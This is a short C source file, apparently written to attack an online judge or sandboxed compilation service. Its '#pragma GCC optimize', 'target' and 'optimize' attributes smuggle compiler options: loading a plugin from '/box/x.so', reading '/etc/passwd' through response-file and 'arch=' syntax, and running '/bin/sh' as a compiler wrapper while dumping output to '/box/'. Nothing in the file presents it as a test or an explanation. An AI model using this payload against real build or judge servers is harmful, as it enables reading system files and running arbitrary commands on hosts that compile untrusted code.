#pragma GCC optimize ("O3,-fplugin=/box/x.so")
#pragma GCC optimize ("@/etc/passwd")
#pragma GCC target ("arch=/etc/passwd")
__attribute__((optimize("-wrapper", "/bin/sh", "-dumpdir", "/box/", "dump-tree-all"))) int f(void) { return 1; }
int main(void) { return 0; }
